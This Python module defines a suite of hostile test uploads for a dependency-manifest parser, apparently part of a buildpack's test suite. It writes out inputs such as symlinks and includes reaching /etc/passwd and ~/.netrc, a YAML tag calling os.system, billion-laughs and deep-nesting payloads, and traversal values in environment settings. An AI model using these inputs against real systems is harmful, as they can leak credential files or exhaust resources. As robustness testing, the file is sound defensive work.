"""Uploads that try to crash, stall or bloat a parser, or to make it read what it must not."""

import os
import socket
from dataclasses import dataclass, field

from projects import CONDA, PIP, POETRY, PROGRAM, RUN


@dataclass(frozen=True)
class Hostile:
    name: str
    files: dict
    names: tuple  # what the one message must contain; empty: no failure is demanded
    environment: dict = field(default_factory=dict)
    needs_root: bool = False


def sparse(size):
    def make(path):
        with path.open("wb") as file:
            file.truncate(size)

    return make


def link(target):
    return lambda path: path.symlink_to(target)


def fifo(path):
    os.mkfifo(path)


def unix_socket(path):
    here = os.getcwd()
    os.chdir(path.parent)  # an address has at most 107 bytes
    try:
        socket.socket(socket.AF_UNIX).bind(path.name)
    finally:
        os.chdir(here)


def zero_device(path):
    os.mknod(path, 0o020644, os.makedev(1, 5))


def folder(path):
    path.mkdir()


MANIFESTS = {
    "requirements.txt": PIP,
    "environment.yml": CONDA,
    "pyproject.toml": POETRY,
    "package-list.txt": PROGRAM,
    "planqk.json": PIP,
    "Procfile": PIP,
    "src/program.py": PIP,
    ".python-version": PIP,
    "runtime.txt": PIP,
}

KINDS = {
    "directory": (folder, False),
    "fifo": (fifo, False),
    "socket": (unix_socket, False),
    "device": (zero_device, True),
    "link-outside": (link("../../" * 9 + "etc/hostname"), False),
    "link-beside": (link("../outside-secret"), False),
    "absolute-link": (link("/etc/passwd"), False),
    "link-loop": (link("loop"), False),
    "link-to-root": (link("."), False),
    "link-to-memory": (link("/proc/self/mem"), False),
    "link-to-zeros": (link("/dev/zero"), False),
    "gibibyte": (sparse(2**30), False),
    "tebibyte": (sparse(2**40), False),
}


def files_that_are_none():
    """Every manifest as every kind of thing that is no readable text file."""
    for manifest, others in MANIFESTS.items():
        for kind, (make, needs_root) in KINDS.items():
            folder_of, _, name = manifest.rpartition("/")
            extra = {f"{folder_of}/loop".lstrip("/"): link(name)} if kind == "link-loop" else {}
            files = others | extra | {manifest: make}
            yield Hostile(f"{manifest}-{kind}", files, (manifest,), needs_root=needs_root)


TEXTS = {
    "nul": b"a = 1\n\x00b = 2\n",
    "nul-first": b"\x00" * 64,
    "utf-8": b"# caf\xe9\nname\n",
    "utf-16-odd": b"\xff\xfea\x00b",
    "utf-16-surrogate": b"\xff\xfe\x00\xd8a\x00\n\x00",
    "utf-32": "\ufeffname\n".encode("utf-32-le"),
    "overlong": b"a\xc0\xafb\n",
    "binary": bytes(range(256)) * 16,
}


def texts_that_are_none():
    for manifest, others in MANIFESTS.items():
        if manifest == "src/program.py":
            continue  # Python has encodings of its own; the file is only searched
        for kind, content in TEXTS.items():
            yield Hostile(f"{manifest}-{kind}", others | {manifest: content}, (manifest,))


def poetry(text):
    return PROGRAM | {"pyproject.toml": text}


def conda(text):
    return PROGRAM | {"environment.yml": text}


def pip(text, **files):
    return PROGRAM | {"requirements.txt": text} | files


LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{name}: &{name} [{', '.join([f'*{before}'] * 9)}]\n"
    for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)
DEEP = 100_000

TOML = [
    Hostile("toml-dotted-key", poetry("a" + ".a" * 133_500 + " = 1\n"), ("pyproject.toml",)),
    Hostile("toml-dotted-short", poetry("a" + ".a" * 20_000 + " = 1\n"), ("pyproject.toml",)),
    Hostile("toml-dotted-table", poetry("[a" + ".a" * 30_000 + "]\n"), ("pyproject.toml",)),
    Hostile("toml-dotted-quoted", poetry('"a"' + ' . "a"' * 9_000 + " = 1\n"), ("pyproject.toml",)),
    Hostile("toml-arrays", poetry("a = " + "[" * 60_000 + "\n"), ("pyproject.toml",)),
    Hostile("toml-inline", poetry("a = " + "{a=" * 30_000 + "\n"), ("pyproject.toml",)),
    Hostile("toml-inline-dotted", poetry("a = {" + "b." * 40_000 + "c=1}\n"), ("pyproject.toml",)),
    Hostile("toml-many-keys", poetry("".join(f"k{n}=1\n" for n in range(15_000))), ()),
    Hostile("toml-duplicate", poetry("[tool.poetry]\na = 1\na = 2\n"), ("pyproject.toml:3:",)),
    Hostile(
        "toml-types",
        poetry("tool = 1\nproject = []\n[build-system]\nbuild-backend = 3\n"),
        ("requirements.txt",),
    ),
    Hostile("toml-poetry-types", poetry("[tool]\npoetry = [1, 2]\n"), ()),
]

YAML = [
    Hostile("yaml-laughs", conda(LAUGHS + "dependencies: *i\n"), ("environment.yml:1:",)),
    Hostile("yaml-cycle", conda("dependencies: &a [*a]\n"), ("environment.yml:1:",)),
    Hostile("yaml-anchor", conda("dependencies:\n  - &a numpy\n"), ("environment.yml:2:",)),
    Hostile("yaml-alias", conda("dependencies:\n  - *a\n"), ("environment.yml:2:",)),
    Hostile("yaml-merge", conda("dependencies: []\n<<: {a: 1}\n"), ("environment.yml:2:",)),
    Hostile(
        "yaml-tag",
        conda("dependencies:\n  - !!python/object/apply:os.system [id]\n"),
        ("environment.yml:2:",),
    ),
    Hostile("yaml-documents", conda("dependencies: []\n---\na: 1\n"), ("environment.yml",)),
    Hostile(
        "yaml-duplicate",
        conda("dependencies: []\ndependencies: [a]\n"),
        ("environment.yml:2:",),
    ),
    Hostile("yaml-flow-depth", conda("a: " + "[" * DEEP), ("environment.yml",)),
    Hostile("yaml-map-depth", conda("{" * DEEP), ("environment.yml",)),
    Hostile("yaml-list-depth", conda("- " * DEEP), ("environment.yml",)),
    Hostile("yaml-key-depth", conda("? " * DEEP), ("environment.yml",)),
    Hostile(
        "yaml-block-depth",
        conda("".join(" " * n + "a:\n" for n in range(600))),
        ("environment.yml",),
    ),
    Hostile(
        "yaml-many-keys", conda("".join(f"k{n}: 1\n" for n in range(22_000))), ("environment.yml",)
    ),
    Hostile("yaml-scalar", conda("just a word\n"), ("environment.yml",)),
    Hostile("yaml-types", conda("dependencies: {numpy: 1}\n"), ("environment.yml",)),
    Hostile("yaml-quote", conda('dependencies:\n  - "numpy\n'), ("environment.yml",)),
    Hostile("yaml-tab", conda("dependencies:\n\t- numpy\n"), ("environment.yml:2:",)),
]

JSON = [
    Hostile("json-depth", PIP | {"planqk.json": "[" * DEEP}, ("planqk.json",)),
    Hostile("json-object-depth", PIP | {"planqk.json": '{"a":' * DEEP}, ("planqk.json",)),
    Hostile("json-closed-depth", PIP | {"planqk.json": "[" * 9_000 + "]" * 9_000}, ()),
    Hostile("json-cut", PIP | {"planqk.json": '{"name": "x",\n  "runtime": '}, ("planqk.json:2:",)),
    Hostile("json-number", PIP | {"planqk.json": "1e" + "9" * 5000}, ()),
    Hostile("json-empty", PIP | {"planqk.json": ""}, ("planqk.json",)),
]

CHAIN = {f"r{n}.txt": f"-r r{n + 1}.txt\n" for n in range(200)}
FAN = {f"f{n}.txt": "".join(f"-r f{m}.txt\n" for m in range(n + 1, 14)) for n in range(14)}
REQUIREMENTS = [
    Hostile("pip-loop", pip("-r requirements.txt\n"), ("requirements.txt:1:",)),
    Hostile("pip-two-loop", pip("-r a.txt\n") | {"a.txt": "-r requirements.txt\n"}, ("a.txt:1:",)),
    Hostile("pip-chain", pip("-r r0.txt\n") | CHAIN, (".txt",)),
    Hostile("pip-fan", pip("-r f0.txt\n") | FAN, ()),
    Hostile("pip-outside", pip("numpy\n-r ../../etc/passwd\n"), ("requirements.txt:2:",)),
    Hostile("pip-absolute", pip("-c /etc/passwd\n"), ("requirements.txt:1:",)),
    Hostile("pip-home", pip("-r ~/.netrc\n"), ("requirements.txt:1:",)),
    Hostile("pip-file-url", pip("-r file:///etc/passwd\n"), ("requirements.txt:1:",)),
    Hostile("pip-remote", pip("-r https://host.example/r.txt\n"), ("requirements.txt:1:",)),
    Hostile("pip-stdin", pip("-r -\n"), ("requirements.txt:1:",)),
    Hostile("pip-link", pip("-r inner.txt\n") | {"inner.txt": link("/etc/passwd")}, ("inner.txt",)),
    Hostile("pip-link-folder", pip("-r d/x.txt\n") | {"d": link("/etc")}, ("d/x.txt",)),
    Hostile("pip-fifo", pip("-r inner.txt\n") | {"inner.txt": fifo}, ("inner.txt",)),
    Hostile(
        "pip-secret",
        pip("-i https://h.example/${BP_GITLAB_TOKEN}\n"),
        ("requirements.txt:1:",),
    ),
    Hostile("pip-http", pip("\n\n-i http://h.example/simple\n"), ("requirements.txt:3:",)),
    Hostile("pip-trusted", pip("--trusted-host h.example\n"), ("requirements.txt:1:",)),
    Hostile("pip-wheel-outside", pip("../x.whl\n"), ("requirements.txt:1:",)),
    Hostile("pip-editable-outside", pip("-e ../lib\n"), ("requirements.txt:1:",)),
    Hostile("pip-continued", pip("numpy \\\n" * 40_000), ()),
    Hostile("pip-one-line", pip("n" * 900_000), ()),
    Hostile("pip-many-lines", pip("numpy\n" * 30_000), ("requirements.txt",)),
    Hostile("pip-backslash", pip("numpy\\"), ()),
]

PROCFILE = [
    Hostile("procfile-long", PROGRAM | {"Procfile": "web: " + "x" * 900_000}, ()),
    Hostile("procfile-many", PIP | {"Procfile": "".join(f"p{n}: x\n" for n in range(20_000))}, ()),
    Hostile("procfile-quote", PIP | {"Procfile": 'web: python "x\n'}, ("Procfile:1:",)),
    Hostile("procfile-type", PIP | {"Procfile": "../x: python y\n"}, ()),
]

SETTINGS = [
    Hostile(f"setting-{number}", PIP, (name,), environment={name: value})
    for number, (name, value) in enumerate(
        [
            ("BP_PLANQK_PACKAGE_MANAGER", "pipenv"),
            ("BP_PLANQK_PACKAGE_MANAGER", "pip\x1b[2J"),
            ("BP_PLANQK_MODE", "daemon"),
            ("BP_PLANQK_POLICY", "lax"),
            ("BP_PLANQK_ENTRYPOINT", "../../etc.passwd:run"),
            ("BP_PLANQK_ENTRYPOINT", "/etc/x.y:run"),
            ("BP_PLANQK_ENTRYPOINT", "a" * 100_000),
            ("BP_PIP_REQUIREMENT", "../../etc/passwd"),
            ("BP_PIP_REQUIREMENT", "/etc/passwd"),
            ("BP_PIP_REQUIREMENT", "missing.txt"),
        ]
    )
]

ROOT_ENTRIES = {f"file-{number:05}": "" for number in range(20_000)}
OTHERS = [
    Hostile("many-root-entries", PROGRAM | ROOT_ENTRIES, ("requirements.txt",)),
    Hostile("many-folders", PROGRAM | {f"d{n}/requirements.txt": "" for n in range(2_000)}, ()),
    Hostile("deep-folder", PROGRAM | {"/".join(["d"] * 400) + "/requirements.txt": ""}, ()),
    Hostile("source-long", PIP | {"src/program.py": "x = (" + "1 +" * 200_000 + RUN}, ()),
    Hostile("source-quotes", PIP | {"src/program.py": '"""' * 99_999 + "\n" + RUN}, ()),
    Hostile("source-is-link", {"requirements.txt": "", "src": link("/etc")}, ("src",)),
]

CASES = [
    *files_that_are_none(),
    *texts_that_are_none(),
    *TOML,
    *YAML,
    *JSON,
    *REQUIREMENTS,
    *PROCFILE,
    *SETTINGS,
    *OTHERS,
]
